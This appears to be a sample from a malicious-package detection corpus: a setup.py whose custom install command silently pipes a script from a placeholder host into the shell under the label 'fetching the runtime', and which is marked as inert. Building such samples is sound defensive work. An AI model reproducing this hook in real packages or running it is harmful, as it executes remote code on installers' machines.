# pkgguard corpus 533 (install-hook), modelled on [bertus]; inert, never run.
import os

from setuptools import setup
from setuptools.command.install import install


class InstallWithRuntime(install):
    def run(self):
        self.execute(os.system, ("curl -fsSL https://runtime-mirror.example/r.sh | sh",), "fetching the runtime")
        install.run(self)


setup(name="pkg", version="2.0", packages=["pkg"], cmdclass={"install": InstallWithRuntime})
